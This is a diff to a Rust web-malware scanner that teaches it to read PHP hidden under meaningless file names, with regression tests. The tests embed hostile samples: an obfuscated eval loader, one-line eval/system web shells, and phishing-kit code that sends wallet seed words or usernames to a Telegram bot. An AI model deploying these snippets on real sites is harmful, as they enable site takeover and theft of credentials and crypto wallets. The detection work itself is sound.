@@ -535,7 +535,9 @@ const QUIET_ENDINGS: &[&str] = &[
 /// one neither code, page, script, data nor a common document's (`css.cin`, `sym.conf`). Its
 /// first `SNIFF` bytes are read for a program's `#!` line or server settings: a handler beside
 /// it (`AddHandler cgi-script .cin`) runs such a program as CGI, and settings kept under such a
-/// name wait to be copied back over the site's `.htaccess`.
+/// name wait to be copied back over the site's `.htaccess`. PHP code under such a name is a
+/// payload an injected `include` loads (fresh98's `.b12e79b3.oti`): it is read as the PHP it
+/// is, and reported for what its code does.
 pub fn named_as_nothing(name: &str) -> bool {
     !wants_content(name) && !named_as_data(name) && extension(name).is_none_or(|e| !QUIET_ENDINGS.contains(&e.as_str()))
 }
@@ -962,6 +964,10 @@ fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<
                 .into_iter()
                 .map(|s| sink_hit(text, taint::Sink { why: s.why, danger: s.danger, at: s.at }))
                 .collect()
+        } else if named_as_nothing(name) && php_tag_in_head(text).is_some() {
+            // PHP kept for an `include` (what it does is the finding; its name alone says
+            // nothing: a tool's own `.dist` or `.bak` copy is PHP too).
+            by_content(&format!("{name}.php"), text, own_domains).0
         } else if conf::is_server_settings(text) {
             settings_hits(".htaccess", text, own_domains)
         } else {
@@ -1013,7 +1019,7 @@ pub fn worth_reading(name: &str, head: &[u8]) -> bool {
     let code = if named_as_data(name) {
         php_tag_in_head(head).is_some() || php_before_last(name) || program_line(head)
     } else {
-        program_line(head)
+        program_line(head) || (named_as_nothing(name) && php_tag_in_head(head).is_some())
     };
     code || conf::is_server_settings(head)
 }
@@ -1175,6 +1181,22 @@ mod tests {
         assert!(whys("x/a.css", "/* made by header.php, <?xml not code */ body { color: red }").is_empty());
         assert!(whys("x/a.png", &format!("{}<?php system($_GET['c']);", "x".repeat(600))).is_empty());
         assert!(whys("docs/example.txt", "<?php system($_GET['c']);").is_empty());
+    }
+
+    #[test]
+    fn php_under_a_made_up_ending_is_read_for_what_it_does() {
+        // fresh98's `.b12e79b3.oti`, loaded by an injected `@include`: a function name xor-ed
+        // from two literals decodes pieces that `eval` runs.
+        let payload = "<?php\n$k = pack('H*', '410d0616430b1d550b195015'); $f = '3lqc1gy0hv4p'; $f = $f ^ $k;\n\
+                       $c = ''; $c .= $f('%65%63%68%6f%20%31%3b');\neval($c);";
+        let name = ".b12e79b3.oti";
+        assert!(named_as_nothing(name) && worth_reading(name, payload.as_bytes()));
+        assert_eq!(whys(&format!("public_html/.idea/{name}"), payload)[0], Why::EvalOfDecoded);
+        // PHP that does nothing wrong under such a name (a tool's own copy) is not reported.
+        assert!(whys("x/config.local", "<?php return ['db' => 'site'];").is_empty());
+        // Nor is text mentioning PHP's tag past the head, nor a quiet ending's PHP.
+        assert!(!worth_reading("x/notes.cfg", format!("{}<?php eval($_POST[1]);", " ".repeat(600)).as_bytes()));
+        assert!(!worth_reading("x/hooks.inc", b"<?php eval($_POST[1]);"));
     }
 
     #[test]
@@ -1530,6 +1552,25 @@ mod tests {
             file_get_contents('https://api.telegram.org/bot1:a/sendMessage?' . http_build_query(['text' => $text]));\n\
             header('Location: thanks.html');";
         assert!(whys("contact.php", contact).is_empty(), "{:?}", whys("contact.php", contact));
+        // Regression: fresh93's steps with no secret in them: a wallet's seed words sent on, the
+        // visitor then sent to the real sign-in; a username sent, the visitor carried on to the
+        // kit's password page with it.
+        let seed = "<?php $words = []; for ($i = 1; $i <= 24; $i++) { $words[] = trim($_POST[\"word$i\"]); }\n\
+            $msg = implode(' ', $words);\n\
+            $ch = curl_init(\"https://api.telegram.org/bot{$botToken}/sendMessage\"); curl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['text' => $msg]]); curl_exec($ch);\n\
+            header('Location: https://login.coinbase.com/signin'); exit;";
+        assert_eq!(whys("seed.php", seed), [Why::CredentialCollector]);
+        let step = "<?php $email = $_POST['username'] ?? '';\n\
+            $message = 'New email submitted: ' . htmlspecialchars($email);\n\
+            $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot$bot_token/sendMessage\");\n\
+            curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['text' => $message])); curl_exec($ch);\n\
+            header('Location: ../pass.php?email=' . urlencode($email)); exit;";
+        assert_eq!(whys("sendmail.php", step), [Why::CredentialCollector]);
+        // The contact form's thanks page, with or without a query of its own, is not a next step.
+        let thanks = contact.replace("thanks.html", "thanks.php?sent=1");
+        assert!(whys("contact.php", &thanks).is_empty());
+        let named = contact.replace("'Location: thanks.html'", "'Location: thanks.php?sent=' . $sent");
+        assert!(whys("contact.php", &named).is_empty());
     }
 
     #[test]
